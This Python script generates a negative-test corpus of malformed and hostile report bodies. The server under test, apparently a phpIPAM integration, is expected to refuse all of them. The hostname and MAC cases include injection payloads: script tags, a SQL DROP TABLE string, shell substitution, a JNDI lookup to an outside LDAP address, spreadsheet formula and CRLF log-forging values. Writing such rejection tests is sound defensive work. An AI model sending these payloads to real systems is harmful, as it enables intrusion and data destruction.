#!/usr/bin/env python3
"""Writes the hostile-report corpus next to this script: one file per case, the exact bytes POSTed.

Every case is a report the server must refuse (HostileReportCorpusIT): none accepted, no row changed, no 500.
They are mutations of one valid report of agent BASE_CODE on BASE_SUBNET (the test sets both up in phpIPAM),
so each file breaks exactly one thing. Files under json/ are sent as application/json, form/ as
application/x-www-form-urlencoded, text/ as text/plain, utf16/ as application/json; charset=utf-16,
xml/ as application/xml. Run it again after changing it; the files are committed, not generated at build.
"""
import copy
import json
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
BASE_CODE = "Corpus-agent-code-0123456789abcX"
BASE_SUBNET = "127.0.90.0/29"

BASE = {
    "formatVersion": 2,
    "reportId": "5b1f0c1e-0d6a-4f5e-9a53-6a1d2b3c4d5e",
    "agentCode": BASE_CODE,
    "subnet": BASE_SUBNET,
    "scanStart": "2026-11-20T10:00:00Z",
    "scanEnd": "2026-11-20T10:00:05Z",
    "command": ["nmap", "-sS", "-sV", "-n", "-p", "22,80", "-oX", "-", BASE_SUBNET],
    "hosts": [
        {"address": "127.0.90.2", "state": "up", "mac": "02:5F:00:00:00:02", "macVendor": "Lab",
         "hostnames": ["host-2.lab"],
         "ports": [{"protocol": "tcp", "port": 22, "state": "open", "reason": "syn-ack",
                    "service": {"name": "ssh", "product": "OpenSSH", "version": "9.2p1"}}]}
    ],
    "profile": "services-nmap",
    "partial": False,
    "coverage": {"hostTargets": [BASE_SUBNET],
                 "ports": [{"protocol": "tcp", "ports": "22,80", "targets": [BASE_SUBNET]}]},
}

cases = []  # (folder, name, bytes)


def add(name, body, folder="json"):
    if isinstance(body, (dict, list)):
        body = json.dumps(body).encode()
    elif isinstance(body, str):
        body = body.encode("utf-8", "surrogatepass")
    cases.append((folder, name, body))


def mutate(name, change):
    report = copy.deepcopy(BASE)
    change(report)
    add(name, report)


def base_text():
    return json.dumps(BASE)


# --- malformed JSON ------------------------------------------------------------------------------------------
text = base_text()
for i, cut in enumerate([1, 10, 50, 100, 200, 300, len(text) // 2, len(text) - 10, len(text) - 2, len(text) - 1]):
    add(f"truncated-at-{cut}", text[:cut])
add("trailing-garbage", text + "garbage")
add("two-documents", text + text)
add("trailing-comma-object", text[:-1] + ",}")
add("single-quotes", text.replace('"', "'"))
add("unquoted-keys", text.replace('"formatVersion"', "formatVersion"))
add("comment-line", "// report\n" + text)
add("comment-block", "/* report */" + text)
add("nan-version", text.replace('"formatVersion": 2', '"formatVersion": NaN'))
add("infinity-version", text.replace('"formatVersion": 2', '"formatVersion": Infinity'))
add("empty", b"")
add("whitespace-only", "   \n\t  ")
add("json-null", "null")
add("json-array", "[]")
add("json-number", "42")
add("json-string", '"report"')
add("json-true", "true")
add("array-of-report", "[" + text + "]")
add("deep-arrays", "[" * 5000 + "]" * 5000)
add("deep-objects-in-hosts", text.replace('"hosts": [', '"hosts": [' + '{"a":' * 3000 + '1' + '}' * 3000 + ','))
add("unclosed-string", '{"formatVersion": 2, "reportId": "abc')
add("raw-newline-in-string", text.replace("host-2.lab", "host-2\n.lab"))
add("raw-tab-in-string", text.replace("host-2.lab", "host-2\t.lab"))
add("invalid-escape", text.replace("host-2.lab", "host-2\\x41.lab"))
add("leading-zero-number", text.replace('"port": 22', '"port": 022'))
add("plus-number", text.replace('"port": 22', '"port": +22'))
add("hex-number", text.replace('"port": 22', '"port": 0x16'))
add("missing-colon", text.replace('"profile": ', '"profile" '))
add("missing-comma", text.replace('"partial": false, ', '"partial": false '))
add("nul-between-tokens", text.replace(", ", ",\x00 ", 1))

# --- keys twice ---------------------------------------------------------------------------------------------
for key, value in [("agentCode", '"Other-agent-code-0123456789abcdX"'), ("reportId", '"6b1f0c1e-0d6a-4f5e-9a53-6a1d2b3c4d5f"'),
                   ("subnet", '"127.0.91.0/29"'), ("formatVersion", "1"), ("scanStart", '"2026-11-20T09:00:00Z"'),
                   ("hosts", "[]"), ("coverage", '{"hostTargets": [], "ports": []}'), ("partial", "true"),
                   ("profile", '"discovery"'), ("command", '["nmap"]')]:
    add(f"duplicate-{key}", '{"' + key + '": ' + value + ", " + text[1:])
add("duplicate-host-address", text.replace('{"address": "127.0.90.2"', '{"address": "127.0.90.3", "address": "127.0.90.2"'))
add("duplicate-host-state", text.replace('"state": "up"', '"state": "down", "state": "up"'))
add("duplicate-port-number", text.replace('"port": 22', '"port": 23, "port": 22'))
add("duplicate-service-name", text.replace('"name": "ssh"', '"name": "telnet", "name": "ssh"'))
add("duplicate-coverage-ports", text.replace('"ports": "22,80"', '"ports": "1-65535", "ports": "22,80"'))

# --- encodings ----------------------------------------------------------------------------------------------
add("utf8-bom", b"\xef\xbb\xbf" + text.encode())
add("utf16le-bom", b"\xff\xfe" + text.encode("utf-16-le"))
add("utf16be-bom", b"\xfe\xff" + text.encode("utf-16-be"))
add("utf16le-no-bom", text.encode("utf-16-le"))
add("utf16be-no-bom", text.encode("utf-16-be"))
add("utf32le", text.encode("utf-32-le"))
add("utf32be-bom", text.encode("utf-32"))
add("latin1-hostname", text.replace("host-2.lab", "h\u00f6st.lab").encode("latin-1"))
add("overlong-slash", text.encode().replace(b"host-2.lab", b"host\xc0\xaf2.lab"))
add("encoded-surrogate", text.encode().replace(b"host-2.lab", b"host\xed\xa0\x802.lab"))
add("invalid-continuation", text.encode().replace(b"host-2.lab", b"host\x802.lab"))
add("truncated-multibyte", text.encode().replace(b"host-2.lab", b"host\xe2\x82.lab"))
add("utf16-declared", text.encode("utf-16"), folder="utf16")
add("utf16-declared-as-utf8-bytes", text, folder="utf16")

# --- media types --------------------------------------------------------------------------------------------
add("form-urlencoded", "report=" + text.replace('"', "%22"), folder="form")
add("form-fields", "formatVersion=2&agentCode=" + BASE_CODE + "&subnet=127.0.90.0%2F29", folder="form")
add("form-json-body", text, folder="form")
add("text-plain", text, folder="text")
add("text-plain-empty", b"", folder="text")
add("xml-report", "<report><formatVersion>2</formatVersion></report>", folder="xml")
add("xml-json-body", text, folder="xml")

# --- host names that are no DNS names -----------------------------------------------------------------------
bad_names = {
    "nul": "host\x00.lab", "cr": "host\r.lab", "lf": "host\n.lab", "crlf-injected-log": "host\r\nFAKE LOG LINE",
    "tab": "host\t.lab", "ansi-red": "\x1b[31mhost\x1b[0m", "ansi-clear-screen": "\x1b[2Jhost", "bell": "host\x07",
    "del": "host\x7f", "script-tag": "<script>alert(1)</script>", "img-onerror": "<img src=x onerror=alert(1)>",
    "rtl-override": "host\u202eexe.lab", "ltr-isolate": "\u2066host\u2069", "zero-width-space": "ho\u200bst.lab",
    "bom-inside": "\ufeffhost.lab", "line-separator": "host\u2028.lab", "nel": "host\u0085.lab",
    "formula-equals": "=cmd|' /C calc'!A0", "formula-plus": "+1+1", "formula-minus": "-1+1", "formula-at": "@SUM(1)",
    "sql-quote": "x'); DROP TABLE ipaddresses; --", "shell-subst": "$(reboot)", "backticks": "`id`",
    "jndi": "${jndi:ldap://198.51.100.1/a}", "template": "{{7*7}}", "space": "host name.lab", "semicolon": "host;lab",
    "slash": "host/lab", "backslash": "host\\lab", "colon": "host:22", "percent": "host%00.lab", "quote": "host\".lab",
    "pipe": "host|lab", "comma": "host,lab", "at-sign": "user@host.lab", "double-dot": "host..lab", "only-dot": ".",
    "two-dots": "..", "leading-dot": ".host.lab", "leading-hyphen": "-host.lab", "trailing-hyphen-label": "host-.lab",
    "label-64": "a" * 64 + ".lab", "name-254": ".".join(["a" * 62] * 4) + ".ab", "umlaut": "h\u00f6st.lab",
    "cyrillic-homoglyph": "\u0440aypal.lab", "emoji": "host\U0001F600.lab", "fullwidth-dot": "host\uff0elab",
    "empty": "", "lone-surrogate": "host\\ud800.lab", "star": "*.lab", "question": "host?.lab",
}
for label, name in bad_names.items():
    if label == "lone-surrogate":
        add("hostname-" + label, text.replace("host-2.lab", name))
        continue
    mutate("hostname-" + label, lambda r, n=name: r["hosts"][0].__setitem__("hostnames", [n]))
mutate("hostname-second-bad", lambda r: r["hosts"][0].__setitem__("hostnames", ["ok.lab", "bad\x1b[0m"]))
mutate("hostname-too-many", lambda r: r["hosts"][0].__setitem__("hostnames", ["h%d.lab" % i for i in range(33)]))
mutate("hostname-not-string", lambda r: r["hosts"][0].__setitem__("hostnames", [42]))
mutate("hostnames-not-array", lambda r: r["hosts"][0].__setitem__("hostnames", "host.lab"))

# --- fields missing, of the wrong type or out of range ------------------------------------------------------
for key in ["formatVersion", "reportId", "agentCode", "subnet", "scanStart", "scanEnd", "command", "hosts", "profile",
            "partial", "coverage"]:
    mutate("missing-" + key, lambda r, k=key: r.pop(k))
wrong = {
    "formatVersion": ["2", 2.5, 0, 3, -1, 99999999999999999999, None, True],
    "reportId": ["not-a-uuid", 42, "", "5b1f0c1e-0d6a-4f5e-9a53-6a1d2b3c4d5e-extra", "5b1f0c1e0d6a4f5e9a536a1d2b3c4d5e"],
    "agentCode": ["short", BASE_CODE + "X", "Corpus-agent-code-0123456789ab!X", "Corpus agent code 0123456789abcXY", 7, None],
    "subnet": ["127.0.90.0", "127.0.90.0/33", "127.0.90.0/-1", "fd00::/129", "localhost/29", "127.0.90.0/29/1",
               "127.0.90.1/29", "999.0.90.0/29", "127.0.90.0 /29", ""],
    "scanStart": ["yesterday", "2026-13-01T00:00:00Z", "2026-11-20", 1700000000, "2026-11-20T25:00:00Z"],
    "scanEnd": ["2026-11-20T09:00:00Z", "tomorrow", None],
    "command": [[], "nmap -sn", [1, 2], ["x" * 1025], ["a"] * 129],
    "hosts": [{}, "none", [None], [1]],
    "profile": ["fast", "", 1, "DISCOVERY"],
    "partial": ["no", 0, None],
    "coverage": [[], "all", {"hostTargets": "127.0.90.0/29"}, {"ports": [{"protocol": "tcp"}]}],
}
for key, values in wrong.items():
    for i, value in enumerate(values):
        mutate(f"wrong-{key}-{i}", lambda r, k=key, v=value: r.__setitem__(k, v))
mutate("extra-top-level-key", lambda r: r.__setitem__("admin", True))
mutate("extra-host-key", lambda r: r["hosts"][0].__setitem__("isGateway", 1))
mutate("extra-port-key", lambda r: r["hosts"][0]["ports"][0].__setitem__("exploit", "yes"))
mutate("extra-service-key", lambda r: r["hosts"][0]["ports"][0]["service"].__setitem__("shell", "x"))
mutate("chunk-index-equals-count", lambda r: r.__setitem__("chunk", {"scanId": BASE["reportId"], "index": 2, "count": 2}))
mutate("chunk-count-zero", lambda r: r.__setitem__("chunk", {"scanId": BASE["reportId"], "index": 0, "count": 0}))
mutate("chunk-negative-index", lambda r: r.__setitem__("chunk", {"scanId": BASE["reportId"], "index": -1, "count": 2}))
mutate("chunk-bad-scan-id", lambda r: r.__setitem__("chunk", {"scanId": "x", "index": 0, "count": 2}))

# --- host and port values -----------------------------------------------------------------------------------
addresses = ["999.1.1.1", "127.0.90", "127.0.90.2.1", "::gg", "127.0.90.2 ", " 127.0.90.2", "", "localhost",
             "127.0.90.2/32", "0x7f.0.90.2", "127.0.90.-2", "1:2:3:4:5:6:7:8:9", ":::1", "127.0.90.256"]
for i, address in enumerate(addresses):
    mutate(f"host-address-{i}", lambda r, a=address: r["hosts"][0].__setitem__("address", a))
for i, state in enumerate(["alive", "", "UP", None, 1]):
    mutate(f"host-state-{i}", lambda r, s=state: r["hosts"][0].__setitem__("state", s))
for i, mac in enumerate(["02:5F:00:00:00", "02:5F:00:00:00:02:03", "02-5F-00-00-00-02", "zz:zz:zz:zz:zz:zz",
                         "02:5F:00:00:00:02'; --", "025F00000002"]):
    mutate(f"host-mac-{i}", lambda r, m=mac: r["hosts"][0].__setitem__("mac", m))
mutate("host-mac-vendor-long", lambda r: r["hosts"][0].__setitem__("macVendor", "v" * 129))
mutate("host-mac-vendor-ansi", lambda r: r["hosts"][0].__setitem__("macVendor", "\x1b[31mEvil\x1b[0m"))
mutate("host-mac-vendor-crlf", lambda r: r["hosts"][0].__setitem__("macVendor", "Lab\r\nFAKE LOG LINE"))
for i, port in enumerate([-1, 65536, 1e10, "22", None, 22.5]):
    mutate(f"port-number-{i}", lambda r, p=port: r["hosts"][0]["ports"][0].__setitem__("port", p))
for i, proto in enumerate(["icmp", "TCP", "", None]):
    mutate(f"port-protocol-{i}", lambda r, p=proto: r["hosts"][0]["ports"][0].__setitem__("protocol", p))
for i, state in enumerate(["listening", "OPEN", "", None]):
    mutate(f"port-state-{i}", lambda r, s=state: r["hosts"][0]["ports"][0].__setitem__("state", s))
mutate("port-reason-long", lambda r: r["hosts"][0]["ports"][0].__setitem__("reason", "r" * 65))
for field, limit in [("name", 128), ("product", 256), ("version", 256), ("extraInfo", 512), ("tunnel", 32)]:
    mutate(f"service-{field}-long", lambda r, f=field, n=limit: r["hosts"][0]["ports"][0]["service"].__setitem__(f, "s" * (n + 1)))
mutate("service-cpes-too-many", lambda r: r["hosts"][0]["ports"][0]["service"].__setitem__("cpes", ["cpe:/a:x"] * 33))
mutate("scripts-too-many", lambda r: r["hosts"][0]["ports"][0].__setitem__("scripts", {f"s{i}": "x" for i in range(65)}))
mutate("scripts-not-string", lambda r: r["hosts"][0]["ports"][0].__setitem__("scripts", {"banner": 1}))

# --- coverage -----------------------------------------------------------------------------------------------
port_lists = ["1-", "-80", "80,,81", "0", "65536", "90-80", "a", "22;80", "22 80", "1-65535,", ",22",
              "1," * 4000 + "x", "99999", "22-80-90", ""]
for i, ports in enumerate(port_lists):
    mutate(f"coverage-ports-{i}", lambda r, p=ports: r["coverage"]["ports"][0].__setitem__("ports", p))
mutate("coverage-ports-too-long", lambda r: r["coverage"]["ports"][0].__setitem__("ports", "1," * 4096 + "2"))
for i, target in enumerate(["everything", "127.0.90.0/33", "", "127.0.90.0/29 ", "::/200"]):
    mutate(f"coverage-target-{i}", lambda r, t=target: r["coverage"]["ports"][0].__setitem__("targets", [t]))
    mutate(f"coverage-host-target-{i}", lambda r, t=target: r["coverage"].__setitem__("hostTargets", [t]))
mutate("coverage-protocol", lambda r: r["coverage"]["ports"][0].__setitem__("protocol", "icmp"))
mutate("coverage-no-targets", lambda r: r["coverage"]["ports"][0].__setitem__("targets", []))

# --- authorization: well-formed but not this agent's to send ------------------------------------------------
mutate("other-agent-code", lambda r: r.__setitem__("agentCode", "Other-agent-code-0123456789abcdX"))
mutate("unassigned-subnet", lambda r: (r.__setitem__("subnet", "127.0.91.0/29"),
                                         r["coverage"].__setitem__("hostTargets", ["127.0.91.0/29"]),
                                         r["coverage"]["ports"][0].__setitem__("targets", ["127.0.91.0/29"]),
                                         r["hosts"][0].__setitem__("address", "127.0.91.2")))
mutate("supernet-of-assigned", lambda r: r.__setitem__("subnet", "127.0.90.0/24"))
mutate("subnet-of-assigned", lambda r: r.__setitem__("subnet", "127.0.90.0/30"))
mutate("everything", lambda r: r.__setitem__("subnet", "0.0.0.0/0"))
mutate("phpipam-default-subnet", lambda r: r.__setitem__("subnet", "10.10.1.0/24"))
mutate("ipv6-subnet-not-assigned", lambda r: r.__setitem__("subnet", "2001:db8::/64"))

if __name__ == "__main__":
    for folder in ["json", "form", "text", "utf16", "xml"]:
        shutil.rmtree(os.path.join(HERE, folder), ignore_errors=True)
    names = set()
    for n, (folder, name, body) in enumerate(cases):
        assert (folder, name) not in names, name
        names.add((folder, name))
        os.makedirs(os.path.join(HERE, folder), exist_ok=True)
        with open(os.path.join(HERE, folder, f"{n:03d}-{name}.body"), "wb") as out:
            out.write(body)
    print(len(cases), "cases")
